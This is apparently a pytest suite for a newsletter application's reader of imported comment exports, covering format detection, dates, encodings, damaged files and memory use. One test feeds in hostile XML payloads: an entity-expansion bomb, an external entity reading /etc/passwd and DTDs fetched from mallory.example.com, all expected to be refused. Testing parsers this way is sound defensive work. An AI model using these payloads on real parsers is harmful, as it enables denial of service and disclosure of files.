"""Any file: whose it is shows in its content, damage has a place, size and malice cost nothing."""

import gzip
import os
import subprocess
import sys
import tracemalloc
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from newsletter.comments.imports import Imported, Skipped, in_order, read, xml
from newsletter.comments.imports.model import moment
from newsletter.comments.imports.reader import UNKNOWN
from newsletter.errors import BadInput
from tests.comments.imports.conftest import NOON, SAMPLES, Write, comments
from tests.comments.imports.exports import WXR_END, WXR_HEAD, wxr, wxr_comment, wxr_item

ROOT = Path(__file__).parents[3]
FILES = [SAMPLES / name for name in ("wordpress.xml", "disqus.xml", "isso.json", "remark42.json")]
DATES = """
import sys
from pathlib import Path
from newsletter.comments.imports import Imported, read
print([c.created_at for name in sys.argv[1:] for c in read(Path(name)) if isinstance(c, Imported)])
"""


@pytest.mark.parametrize("path", FILES, ids=lambda path: path.name)
@pytest.mark.parametrize("packed", [False, True])
@pytest.mark.parametrize("mark", [b"", b"\xef\xbb\xbf"])
def test_the_content_tells_whose_it_is(write: Write, path: Path, packed: bool, mark: bytes) -> None:
    content = mark + path.read_bytes()
    assert comments(write(gzip.compress(content) if packed else content)) == comments(path)


@pytest.mark.parametrize(
    "content", ["", "\n", "Dear Olga", "<html></html>", "PK\x03\x04", gzip.compress(b"x", mtime=0)]
)
def test_anything_else_is_refused_with_what_could_be_read(write: Write, content: str | bytes) -> None:
    with pytest.raises(BadInput) as refused:
        list(read(write(content)))
    assert str(refused.value) == UNKNOWN


def dates(zone: str, *paths: Path) -> str:
    command = [sys.executable, "-c", DATES, *map(str, paths)]
    ran = subprocess.run(
        command, cwd=ROOT, env=os.environ | {"TZ": zone}, capture_output=True, text=True, check=True
    )
    return ran.stdout


def test_dates_are_the_same_in_any_zone(isso: Path) -> None:
    here = dates("America/New_York", *FILES, isso)
    assert here == dates("Asia/Kathmandu", *FILES, isso)
    assert here.count(str(NOON)) >= 3


@pytest.mark.parametrize(
    ("text", "ms"),
    [
        ("2021-03-02 12:00:00", NOON),
        ("2021-03-02T12:00:00Z", NOON),
        ("2021-03-02T06:00:00.001999999-06:00", NOON + 1),
        ("0000-00-00 00:00:00", None),
        ("0001-01-01T00:00:00Z", None),
        ("0001-01-01T00:00:00+14:00", None),
        ("9999-12-31T23:59:59-14:00", None),
        ("yesterday", None),
        ("", None),
        (None, None),
    ],
)
def test_a_date_is_one_or_none(text: str | None, ms: int | None) -> None:
    assert moment(text) == ms


BOMB = '<!DOCTYPE rss [<!ENTITY a "ha">{}]>'.format(
    "".join(f'<!ENTITY a{n} "{"&a;" * 10 if not n else f"&a{n - 1};" * 10}">' for n in range(9))
)


@pytest.mark.parametrize(
    "declared",
    [
        BOMB,
        '<!DOCTYPE rss [<!ENTITY a8 SYSTEM "/etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY % a8 SYSTEM "https://mallory.example.com/x.dtd"> %a8;]>',
        '<!DOCTYPE rss SYSTEM "https://mallory.example.com/x.dtd">',
    ],
)
@pytest.mark.parametrize("root", ["rss", "disqus"])
def test_entities_are_refused_before_they_are_used(write: Write, declared: str, root: str) -> None:
    text = declared + wxr(wxr_comment(1, author="&a8;"))
    with pytest.raises(BadInput, match=r"^Line 1 declares a document type or an entity"):
        list(read(write(text.replace("rss", root))))


@pytest.mark.parametrize(
    ("damage", "sentence"),
    [
        ("<\x08>", r"^Line 3 .*not well-formed \(invalid token\)"),
        ("\ufffe", r"^Line 3 .*not well-formed"),
        ("&nbsp;", "^Line 3 .*undefined entity"),
        ("</wp:other>", "^Line 3 .*mismatched tag"),
        ("<b>" * 100, "^Line 3 is nested too deeply"),
        ("<!-- " + "x" * 1_200_000, "^Line 3 begins a tag or a remark without end"),
    ],
)
def test_damage_in_xml_is_refused_with_its_line(write: Write, damage: str, sentence: str) -> None:
    text = wxr(wxr_comment(1), more=f"\n\n{damage}")
    with pytest.raises(BadInput, match=sentence):
        list(read(write(text)))


@pytest.mark.parametrize("path", FILES[:2], ids=lambda path: path.name)
def test_a_file_that_breaks_off_is_refused(write: Write, path: Path) -> None:
    content = path.read_bytes().rstrip()
    with pytest.raises(BadInput, match=r"no element found|unclosed"):
        list(read(write(content[: len(content) // 2].rpartition(b"<")[0])))
    with pytest.raises(BadInput, match="damaged or incomplete"):
        list(read(write(gzip.compress(content)[:-30])))


def test_a_bad_checksum_is_refused(write: Write) -> None:
    packed = bytearray(gzip.compress(FILES[0].read_bytes()))
    packed[-6] ^= 1
    with pytest.raises(BadInput, match="damaged or incomplete"):
        list(read(write(bytes(packed))))


@pytest.mark.parametrize("encoding", ["utf-16", "iso-8859-1", "windows-1252"])
def test_declared_encodings_are_read(write: Write, encoding: str) -> None:
    text = f'<?xml version="1.0" encoding="{encoding}"?>' + wxr(wxr_comment(1, text="Café"))
    assert comments(write(text.encode(encoding)))["1"].text == "Café"


@pytest.mark.parametrize("encoding", ["shift_jis", "klingon"])
def test_other_encodings_are_refused_with_a_sentence(write: Write, encoding: str) -> None:
    with pytest.raises(BadInput, match=r"save it as UTF-8|unknown encoding"):
        list(read(write(f'<?xml version="1.0" encoding="{encoding}"?>' + wxr())))


def test_a_page_beyond_measure_is_refused(write: Write, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xml, "LONGEST", 100_000)
    with pytest.raises(BadInput, match="larger than any page"):
        list(read(write(wxr(*(wxr_comment(n, text="x" * 1_000) for n in range(200))))))


def test_memory_does_not_grow_with_the_file(tmp_path: Path) -> None:
    path = tmp_path / "large"
    with path.open("w") as file:
        file.write(WXR_HEAD)
        for page in range(100):
            body = f"<content:encoded><![CDATA[{'word ' * 20_000}]]></content:encoded>"
            said = (wxr_comment(page * 20 + n, text="x" * 5_000) for n in range(20))
            file.write(wxr_item(*said, more=body))
        file.write(WXR_END)
    assert path.stat().st_size > 20_000_000

    tracemalloc.start()
    count = sum(isinstance(one, Imported) for one in in_order(read(path)))
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert count == 2_000
    assert peak < 4_000_000


def test_reading_twice_is_reading_the_same(isso: Path) -> None:
    for path in (*FILES, isso):
        found = list(read(path))
        assert found == list(read(path))
        assert len({one.source_id for one in found}) == len(found), "ids tell them apart at the next import"


@settings(max_examples=300, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.sampled_from(FILES), st.data())
def test_whatever_the_damage_it_is_read_or_refused(write: Write, path: Path, data: st.DataObject) -> None:
    content = bytearray(path.read_bytes())
    for _ in range(data.draw(st.integers(1, 3))):
        start = data.draw(st.integers(0, len(content) - 1))
        content[start : start + data.draw(st.integers(0, 20))] = data.draw(st.binary(max_size=4))
    with suppress(BadInput):
        list(in_order(read(write(bytes(content)))))


def test_an_id_that_no_index_can_hold_keeps_no_other_comment_out(write: Write) -> None:
    """As Isso's JSON has it, where an id holds its page's path: a database would refuse the whole import."""
    said = '[{"id": 1, "created": "2021-03-02 12:00:00", "text": "Hello"}]'
    found = list(
        read(write(f'[{{"id": "/{"é" * 500}", "comments": {said}}}, {{"id": "/b", "comments": {said}}}]'))
    )
    assert [(type(one).__name__, one.source_id[:3]) for one in found] == [
        ("Skipped", "/éé"),
        ("Imported", "/b#"),
    ]
    assert isinstance(found[0], Skipped)
    assert found[0].reason == "Its id is too long: 1,000 bytes at most."
